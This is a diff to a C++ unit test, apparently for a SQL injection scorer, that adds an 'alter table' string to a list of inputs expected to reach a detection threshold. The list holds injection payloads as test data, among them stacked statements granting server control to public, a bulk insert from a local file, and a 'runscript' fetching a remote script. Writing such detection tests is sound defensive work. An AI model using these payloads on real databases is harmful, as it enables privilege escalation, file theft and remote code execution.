@@ -296,7 +296,8 @@ TEST(Sql, WholeDefinitionsAndOtherStackedStatements) {
   for (const char* text :
        {"';use master;grant control server to [public]--", "';bulk insert x from 'c:\\x'--",
         "';runscript from 'http://192.0.2.9/x'--", "1;desc users;", "load data infile '/srv/x' into table y",
-        "create table x (y text)", "insert into a.b (c,d) values (1,2)", "create user x identified by 'y'"}) {
+        "create table x (y text)", "alter table x add y text", "insert into a.b (c,d) values (1,2)",
+        "create user x identified by 'y'"}) {
     EXPECT_GE(points(text), kThreshold) << text;
   }
   for (const char* text :
